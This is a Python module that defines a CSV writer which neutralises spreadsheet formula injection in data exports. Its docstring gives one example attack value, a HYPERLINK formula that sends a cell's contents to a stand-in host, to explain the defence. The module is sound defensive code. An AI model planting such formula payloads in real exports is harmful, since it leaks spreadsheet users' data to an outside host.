"""The one CSV writer of every export: cells that a spreadsheet would run as a formula are neutralised.

A petition titled ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` written to an open-data CSV as it is
becomes a live formula when someone opens the file in a spreadsheet (CSV / formula injection). A text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text and never evaluate. Numbers (``int``, ``float``, ``Decimal``) are written as
they are, so a negative amount stays a number.

Pure: no Django import (the Pabulib writer, used without Django, writes through it too).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """`value`, or — for text a spreadsheet would evaluate — the same text after an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every text cell goes through :func:`safe_cell`; ``writerow`` returns what the
    underlying writer returns (the line, when the file object's ``write`` returns it: streaming)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` through :class:`SafeWriter` (missing keys are written as ``""``)."""

    def __init__(self, out: _Writable, fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = SafeWriter(out, **options)

    def writeheader(self) -> Any:
        return self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow(
            ["" if row.get(name) is None else row.get(name) for name in self.fieldnames]
        )

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
